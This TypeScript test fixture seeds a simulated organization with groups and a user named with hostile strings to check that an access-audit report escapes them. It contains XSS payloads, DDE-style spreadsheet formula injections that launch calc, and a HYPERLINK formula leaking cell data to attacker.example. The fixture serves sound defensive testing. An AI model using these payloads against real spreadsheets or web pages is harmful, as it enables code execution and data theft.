/**
 * A crawled organization for report tests: a seeded generated organization plus groups, users
 * and a role whose names are hostile (markup, spreadsheet formulas, bidi and zero-width
 * characters, very long names), crawled twice with realistic changes in between.
 */
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type RunningSimulator, startSimulator } from "../../src/simulator/index.js";
import { crawlInto, roleId } from "./analysis-org.js";

/** Names that must come out escaped in HTML and inert in a workbook. */
export const HOSTILE_NAMES = {
  script: "<script>alert('xss-group')</script>",
  attribute: '"><img src=x onerror=alert(1)>',
  hyperlink: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
  command: "+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  tab: "\t=1+1",
  carriageReturn: "\r=1+1",
  unicode: "Ingeniería 工程 🚀 \u202Egnp.exe\u202C zero\u200Bwidth",
  long: `Very long group name ${"x".repeat(600)} end`,
  templateLike: "{{constructor.constructor('alert(1)')()}}",
} as const;

export interface ReportOrg {
  sim: RunningSimulator;
  dbPath: string;
  dir: string;
  first: number;
  second: number;
  /** Group ids by hostile-name key. */
  groups: Record<keyof typeof HOSTILE_NAMES, string>;
  /** A user whose email and name are hostile, and who is made Owner through a group. */
  hostileUserId: string;
}

/**
 * Starts a simulator (seed 7, 40 groups, 300 users), adds the hostile groups and a hostile user,
 * crawls, applies changes (members join and leave, a role granted to a manual group, a rename,
 * an Owner through a group), and crawls again. Call `org.sim.stop()` when done.
 */
export async function crawlHostileOrganization(
  options: { groups?: number; users?: number } = {},
): Promise<ReportOrg> {
  const dir = mkdtempSync(join(tmpdir(), "access-audit-report-"));
  const dbPath = join(dir, "report.duckdb");
  const sim = await startSimulator({
    port: 0,
    seed: 7,
    groups: options.groups ?? 40,
    users: options.users ?? 300,
  });
  const s = sim.state;
  const userIds = s.userIds();
  const groups = {} as Record<keyof typeof HOSTILE_NAMES, string>;
  let i = 0;
  for (const [key, name] of Object.entries(HOSTILE_NAMES) as [
    keyof typeof HOSTILE_NAMES,
    string,
  ][]) {
    const id = s.createGroup(name, { isScimManaged: i % 2 === 0 }).id;
    groups[key] = id;
    for (let k = 0; k < 3; k++) {
      const user = userIds[(i * 7 + k) % userIds.length];
      if (user) s.addMember(id, user);
    }
    i++;
  }
  const hostileUser = s.createUser({
    name: '<b onmouseover="alert(2)">Mallory</b>',
    email: "=cmd|'/C calc'!A0@corp.example",
  }).id;
  s.addMember(groups.script, hostileUser);
  s.assignGroupRole(groups.attribute, roleId(sim, "Usage Viewer"));
  const first = await crawlInto(sim, dbPath);

  // Changes between the two snapshots.
  s.addMember(groups.attribute, hostileUser);
  const leaver = s.listGroupUsers(groups.hyperlink)[0]?.id;
  if (leaver) s.removeMember(groups.hyperlink, leaver);
  s.assignGroupRole(groups.command, roleId(sim, "Project Administrator")); // manual group
  s.renameGroup(groups.unicode, `${HOSTILE_NAMES.unicode} (renamed) <i>`);
  s.assignGroupRole(groups.minus, s.ownerRoleId); // an Owner through a group
  s.addMember(groups.minus, hostileUser);
  const second = await crawlInto(sim, dbPath);
  return { sim, dbPath, dir, first, second, groups, hostileUserId: hostileUser };
}
